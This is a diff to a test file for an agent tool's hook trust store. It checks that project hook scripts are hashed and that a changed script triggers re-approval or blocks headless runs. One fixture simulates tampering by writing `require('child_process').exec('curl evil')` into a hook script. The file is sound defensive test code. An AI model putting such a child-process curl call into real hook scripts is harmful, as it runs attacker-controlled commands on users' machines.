@@ -85,7 +85,7 @@ describe("hook trust store", () => {
 describe("resolveProjectHookTrust", () => {
   it("lists every project command for the dialog", async () => {
     const loaded = await loadHooksConfig(sources);
-    const request = describeProjectHooks(loaded, root)!;
+    const request = (await describeProjectHooks(loaded, root))!;
     expect(request.file).toBe(projectFile);
     expect(request.commands).toEqual([
       { event: "PreToolUse", matcher: "Bash", hook: "echo project", command: "echo project", path: "hooks.PreToolUse[0].hooks[0]" },
@@ -132,7 +132,7 @@ describe("resolveProjectHookTrust", () => {
     expect((await resolve()).status).toBe("trusted_once");
     expect((await resolve()).status).toBe("trusted_once");
     expect(asks).toBe(1);
-    expect(await store.isTrusted(root, describeProjectHooks(await loadHooksConfig(sources), root)!.sha256)).toBe(false);
+    expect(await store.isTrusted(root, (await describeProjectHooks(await loadHooksConfig(sources), root))!.fingerprint)).toBe(false);
   });
 
   it("headless skips untrusted project hooks unless --trust-project-hooks is given", async () => {
@@ -160,5 +160,47 @@ describe("resolveProjectHookTrust", () => {
     });
     expect(result.status).toBe("none");
     expect(result.items.map((i) => i.source.scope)).toEqual(["user"]);
+  });
+});
+
+describe("scripts a trusted hook runs", () => {
+  it("finds project files named by commands, argv, $CLAUDE_PROJECT_DIR and --opt=path, not programs outside", async () => {
+    const { hookScriptDigests, pathCandidates } = await import("../../../src/hooks/script-refs.js");
+    expect(pathCandidates({ command: 'node .deepagents/hook.mjs && "$CLAUDE_PROJECT_DIR/scripts/check.sh" --config=./cfg.json | tee /tmp/x' }, root)).toEqual(
+      expect.arrayContaining(["node", ".deepagents/hook.mjs", `${root}/scripts/check.sh`, "./cfg.json", "/tmp/x"]),
+    );
+    await mkdir(join(root, "scripts"), { recursive: true });
+    await writeFile(join(root, ".deepagents", "hook.mjs"), "console.log(1)");
+    await writeFile(join(root, "scripts", "check.sh"), "#!/bin/sh\n");
+    await writeFile(join(root, "cfg.json"), "{}");
+    const digests = await hookScriptDigests(
+      [{ command: 'node .deepagents/hook.mjs && "$CLAUDE_PROJECT_DIR/scripts/check.sh" --config=./cfg.json' }, { argv: ["/bin/sh", "${CLAUDE_PROJECT_DIR}/scripts/check.sh"] }],
+      root,
+    );
+    expect(Object.keys(digests).sort()).toEqual([".deepagents/hook.mjs", "cfg.json", "scripts/check.sh"]);
+  });
+
+  it("a changed script asks again and says which file changed; headless says so too", async () => {
+    await writeProject("node .deepagents/hook.mjs");
+    await writeFile(join(root, ".deepagents", "hook.mjs"), "console.log('reviewed')");
+    const store = createHookTrustStore({ stateDir });
+    const shown: HookTrustRequest[] = [];
+    const resolve = (answer: "allow_always" | "reject" | undefined) =>
+      loadHooksConfig(sources).then((loaded) =>
+        resolveProjectHookTrust({ loaded, projectRoot: root, store, ...(answer ? { ask: async (r: HookTrustRequest) => (shown.push(r), answer) } : {}) }),
+      );
+    expect((await resolve("allow_always")).status).toBe("trusted");
+    expect(shown[0]!.scripts).toEqual({ ".deepagents/hook.mjs": expect.stringMatching(/^[0-9a-f]{64}$/) });
+    expect(formatHookTrustRequest(shown[0]!)).toContain("Project files these commands run (any change asks again): `.deepagents/hook.mjs`");
+    expect((await resolve(undefined)).status).toBe("trusted");
+
+    await writeFile(join(root, ".deepagents", "hook.mjs"), "require('child_process').exec('curl evil')");
+    const headless = await resolve(undefined);
+    expect(headless.status).toBe("untrusted");
+    expect(headless.items.some((item) => item.source.scope === "project")).toBe(false);
+    expect(headless.diagnostics[0]!.message).toContain("changed since you trusted them: .deepagents/hook.mjs changed");
+    expect((await resolve("reject")).status).toBe("rejected");
+    expect(shown[1]!.changes).toEqual([".deepagents/hook.mjs changed"]);
+    expect(formatHookTrustRequest(shown[1]!)).toMatch(/^Asked again because: \.deepagents\/hook\.mjs changed\./);
   });
 });
